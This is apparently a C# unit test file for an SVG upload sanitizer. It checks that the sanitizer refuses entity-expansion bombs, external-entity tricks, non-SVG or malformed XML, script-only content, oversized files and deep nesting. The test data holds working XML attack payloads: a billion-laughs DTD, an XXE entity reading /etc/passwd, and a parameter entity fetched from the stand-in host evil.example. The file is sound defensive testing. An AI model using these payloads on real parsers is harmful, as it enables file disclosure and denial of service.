using System.Diagnostics;
using System.Text;
using Saas.Kernel.Media;
using static Saas.UnitTests.Media.SvgSanitizerTests;

namespace Saas.UnitTests.Media;

/// <summary>SVG files refused as a whole: entity tricks, not SVG, not XML, nothing left to draw, too big, too deep.</summary>
public sealed class SvgRefusalTests
{
    private static void Refused(string svg, MediaError expected) => Assert.Equal(expected, Sanitizer.Sanitize(svg).Error);

    [Fact]
    public void Entity_expansion_is_refused_before_it_starts()
    {
        var laughs = """
            <?xml version="1.0"?>
            <!DOCTYPE svg [
              <!ENTITY lol "lol">
              <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
              <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
              <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
              <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
              <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
              <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
              <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
              <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
            ]>
            <svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>
            """;

        Refused(laughs, MediaError.SvgDoctype);
    }

    [Theory]
    [InlineData("""<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>""")]
    [InlineData("""<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd" [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]><svg xmlns="http://www.w3.org/2000/svg"/>""")]
    [InlineData("""<!DOCTYPE svg SYSTEM "x>"[<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>""")]
    [InlineData("""<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd"><!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>""")]
    public void External_entities_are_refused(string svg)
    {
        var result = Sanitizer.Sanitize(svg);

        Assert.False(result.Succeeded);
        Assert.Contains(result.Error, new MediaError?[] { MediaError.SvgDoctype, MediaError.SvgMalformed });
    }

    [Fact]
    public void A_plain_public_doctype_as_editors_write_it_is_accepted()
    {
        var svg = Clean("""
            <?xml version="1.0" encoding="UTF-8" standalone="no"?>
            <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
            <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle r="5"/></svg>
            """);

        Assert.DoesNotContain("DOCTYPE", svg.Markup, StringComparison.Ordinal);
        Assert.Contains("<circle r=\"5\" />", svg.Markup, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<html><body>x</body></html>")]
    [InlineData("<?xml version=\"1.0\"?><root><svg xmlns=\"http://www.w3.org/2000/svg\"/></root>")]
    [InlineData("<svg>no namespace, so a browser would not draw it</svg>")]
    [InlineData("<x:svg xmlns:x=\"urn:not-svg\"/>")]
    public void Something_that_is_not_SVG_is_refused(string content) => Refused(content, MediaError.SvgNotSvg);

    [Theory]
    [InlineData("not xml at all")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\">")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect></svg>")]
    [InlineData("\u0089PNG\r\n")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&nbsp;</text></svg>")]
    public void Malformed_XML_is_refused(string content) => Refused(content, MediaError.SvgMalformed);

    [Theory]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\">Hallo</div></foreignObject></svg>")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"/>")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><title>nur ein Titel</title><g/></svg>")]
    public void Nothing_drawable_left_is_refused(string content) => Refused(content, MediaError.SvgUnsafe);

    [Fact]
    public void Empty_and_oversized_files_are_refused()
    {
        Refused("", MediaError.Empty);
        var padding = new string(' ', Sanitizer.Options.MaxBytes);
        Refused(Drawing("<rect/>" + padding), MediaError.TooLarge);
    }

    [Fact]
    public async Task An_endless_upload_is_refused_without_reading_it_all()
    {
        var stream = new MemoryStream(Encoding.UTF8.GetBytes(Drawing(new string(' ', 1024 * 1024))));

        var result = await Sanitizer.SanitizeAsync(stream, "riesig.svg");

        Assert.Equal(MediaError.TooLarge, result.Error);
        Assert.Equal("riesig.svg", result.Problem!.FileName);
    }

    [Fact]
    public void Nesting_up_to_the_limit_is_kept()
    {
        var depth = Sanitizer.Options.MaxDepth - 2; // below <svg> and around <rect>
        var nested = string.Concat(Enumerable.Repeat("<g>", depth)) + "<rect/>" + string.Concat(Enumerable.Repeat("</g>", depth));

        Assert.Contains("<rect />", Clean(Drawing(nested)).Markup, StringComparison.Ordinal);
    }

    [Fact]
    public void Deep_nesting_is_refused_quickly()
    {
        // Almost 500 KB of nested groups: refused at level 100, without building the rest.
        var deep = string.Concat(Enumerable.Repeat("<g>", 70_000)) + "<rect/>" + string.Concat(Enumerable.Repeat("</g>", 70_000));
        var started = Stopwatch.StartNew();

        var result = Sanitizer.Sanitize(Drawing(deep));

        Assert.Equal(MediaError.SvgTooDeep, result.Error);
        Assert.Equal([100], result.Problem!.Arguments);
        Assert.True(started.Elapsed < TimeSpan.FromSeconds(5), started.Elapsed.ToString());
    }
}
